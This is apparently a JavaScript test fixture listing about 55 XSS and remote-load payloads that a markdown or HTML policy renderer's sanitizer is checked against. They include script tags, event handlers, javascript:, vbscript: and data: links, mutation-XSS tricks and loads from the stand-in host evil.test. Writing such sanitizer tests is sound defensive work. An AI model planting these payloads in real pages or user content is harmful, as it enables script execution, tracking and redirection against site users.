// Attacks a policy file could carry (it may come from a template, a pull request or a web
// page): each would run script (setting window.__pwned) or load something from evil.test if
// it reached the DOM intact. Grouped by what they try; every one is placed in a policy.
const P = (n) => `window.__pwned=${n}`;

export const XSS_VECTORS = [
  // script elements, plain and disguised
  ["script tag", `<script>${P(1)}</script>`],
  ["script split across tags", `<<script>script>${P(2)}<</script>/script>`],
  ["script in svg", `<svg><script>${P(3)}</script></svg>`],
  ["script with remote src", `<script src="https://evil.test/x.js"></script>`],
  ["script inside template", `<template><script>${P(5)}</script></template>`],
  ["script in heading", `## Cookies <script>${P(6)}</script>`],
  // event handlers
  ["img onerror", `<img src=x onerror="${P(7)}">`],
  ["img onerror unquoted inline", `Text <img src=x onerror=${P(8)}> more text`],
  ["svg onload", `<svg onload="${P(9)}"></svg>`],
  ["body onload", `<body onload="${P(10)}">`],
  ["details ontoggle", `<details open ontoggle="${P(11)}"><summary>x</summary></details>`],
  ["input autofocus onfocus", `<input autofocus onfocus="${P(12)}">`],
  ["span onmouseover", `<span title="a" onmouseover="${P(13)}">hover me</span>`],
  ["a onclick on allowed tag", `<a href="https://example.org/" onclick="${P(14)}">click</a>`],
  ["video source onerror", `<video><source onerror="${P(15)}"></video>`],
  ["svg animate onbegin", `<svg><animate onbegin="${P(16)}" attributeName="x" dur="1s"></animate></svg>`],
  ["marquee onstart", `<marquee onstart="${P(17)}">x</marquee>`],
  ["handler in a table cell", `| a | b |\n|---|---|\n| <img src=x onerror=${P(18)}> | c |`],
  // javascript: and other schemes
  ["markdown javascript: link", `[click](javascript:${P(19)})`],
  ["mixed-case scheme", `[click](JaVaScRiPt:${P(20)})`],
  ["entity-encoded scheme", `[click](&#106;avascript:${P(21)})`],
  ["tab inside scheme", `[click](<java\tscript:${P(22)}>)`],
  ["html javascript: href", `<a href="javascript:${P(23)}">x</a>`],
  ["html href with entities", `<a href="&#x6A;avascript&colon;${P(24)}">x</a>`],
  ["autolink javascript:", `<javascript:${P(25)}>`],
  ["reference-style javascript:", `[ref link][evil]\n\n[evil]: javascript:${P(26)}`],
  ["vbscript link", `[x](vbscript:msgbox(27))`],
  ["svg xlink:href", `<svg><a xlink:href="javascript:${P(28)}"><text>x</text></a></svg>`],
  // data: URLs
  ["data: html link", `[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0yOTwvc2NyaXB0Pg==)`],
  ["data: svg image", `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3B3bmVkPTMwIi8+)`],
  ["html data: href", `<a href="data:text/html,<script>${P(31)}</script>">d</a>`],
  // frames, objects, navigation
  ["iframe src", `<iframe src="https://evil.test/frame"></iframe>`],
  ["iframe srcdoc", `<iframe srcdoc="<script>parent.${P(33)}</script>"></iframe>`],
  ["object data", `<object data="https://evil.test/object"></object>`],
  ["embed src", `<embed src="https://evil.test/embed">`],
  ["meta refresh", `<meta http-equiv="refresh" content="0;url=https://evil.test/refresh">`],
  ["base href", `<base href="https://evil.test/">\n\n[relative](page.html)`],
  ["form action", `<form action="https://evil.test/form"><button>send</button></form>`],
  ["protocol-relative link", `[x](//evil.test/protocol-relative)`],
  // style injection and remote loads
  ["style element", `<style>body{background:url(https://evil.test/style)}</style>`],
  ["style attribute", `<div style="background:url(https://evil.test/inline-style)">x</div>`],
  ["link stylesheet", `<link rel="stylesheet" href="https://evil.test/link.css">`],
  ["remote markdown image", `![tracker](https://evil.test/pixel.png)`],
  ["remote html image", `<img src="https://evil.test/img.png">`],
  ["img srcset", `<img srcset="https://evil.test/srcset.png 1x">`],
  // parser confusion and attribute breakouts
  ["mutation via noscript", `<noscript><p title="</noscript><img src=x onerror=${P(46)}>">`],
  ["mutation via math/style", `<math><mtext><table><mglyph><style><img src=x onerror="${P(47)}">`],
  ["comment breakout", `<!--><img src=x onerror="${P(48)}">-->`],
  ["textarea breakout", `<textarea><script>${P(49)}</script></textarea>`],
  ["link title breakout", `[x](https://example.org/ "t\\" onmouseover=\\"${P(50)}")`],
  ["fence info breakout", "```\"><img src=x onerror=" + P(51) + ">\nbody\n```"],
  ["code span", `\`<img src=x onerror=${P(52)}>\``],
  ["dom clobbering id", `<div id="pw-policy">x</div><a id="__sent" href="https://example.org/">y</a>`],
  ["custom element handler", `<x-widget onclick="${P(54)}">z</x-widget>`],
  ["attribute without quotes breakout", `<a href=https://example.org/ title=x onfocus=${P(55)} autofocus>f</a>`],
];
